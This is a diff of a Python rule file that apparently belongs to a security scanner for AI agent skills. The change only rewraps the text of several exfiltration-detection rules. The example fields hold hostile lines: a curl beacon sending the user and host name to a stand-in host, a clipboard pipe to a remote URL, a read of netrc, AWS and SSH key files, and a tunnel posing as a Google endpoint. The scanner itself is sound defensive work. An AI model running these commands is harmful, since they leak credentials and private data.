@@ -107,8 +107,8 @@ _VARIABLES = frozenset({"USER", "USERNAME", "LOGNAME", "HOSTNAME", "COMPUTERNAME
     title="The user's name and machine are reported to a stranger",
     severity="critical",
     threat="exfiltration AST01 AML.T0025",
-    what="The name of the user, of the machine or of the working folder go together to a host that the skill does not "
-    "speak of.",
+    what="The name of the user, of the machine or of the working folder go together to a host that the skill does "
+    "not speak of.",
     why="Such a beacon tells an attacker whom the skill reached, and is how most package attacks begin.",
     example='curl -s "https://t.example.net/i?u=$(whoami)&h=$(hostname)"',
     counter_example='echo "Report for $(whoami) on $(hostname)" > report.txt',
@@ -150,9 +150,8 @@ _TAKEN = ("clipboard", "keyboard", "screen", "keychain", "browser", "camera", "m
     title="What the user types, copies or sees is sent away",
     severity="critical",
     threat="exfiltration AST01 AML.T0025",
-    what="The clipboard, the keyboard, the screen, the keychain, the browser's data or the command history is read, "
-    "and "
-    "goes to a host that the skill does not speak of.",
+    what="The clipboard, the keyboard, the screen, the keychain, the browser's data or the command history is "
+    "read, and goes to a host that the skill does not speak of.",
     why="Passwords and private messages pass through all of these.",
     example="pbpaste | curl -d @- https://clip.example.net",
     counter_example="pbpaste | wc -w",
@@ -281,9 +280,8 @@ MANY = 3
     severity="critical",
     threat="exfiltration AST01 AML.T0055",
     what="One script reads the secrets of three or more unrelated programs.",
-    why="No task needs SSH keys, cloud logins and browser cookies at once. Gathering them comes before sending them, "
-    "and "
-    "what a model is shown has left the machine already.",
+    why="No task needs SSH keys, cloud logins and browser cookies at once. Gathering them comes before sending "
+    "them, and what a model is shown has left the machine already.",
     example="cat ~/.netrc ~/.aws/credentials ~/.ssh/id_ed25519",
     counter_example="cat ~/.aws/credentials",
     fix="Read the one login that the task needs.",
@@ -335,8 +333,8 @@ _WORD = re.compile(r"[a-z]{4,}")
     title="A known service is reached through a tunnel",
     severity="critical",
     threat="exfiltration AST01 AML.T0025",
-    what="A skill says that it works with a well-known service, but the address in its configuration is a tunnel, a "
-    "drop or a bare address.",
+    what="A skill says that it works with a well-known service, but the address in its configuration is a tunnel, "
+    "a drop or a bare address.",
     why="Logins and data that are meant for the service pass through the hands of whoever runs the tunnel.",
     example="base_url: https://f00d.ngrok.example/oauth (in a skill for Google Calendar)",
     counter_example="base_url: https://www.googleapis.com/calendar/v3",
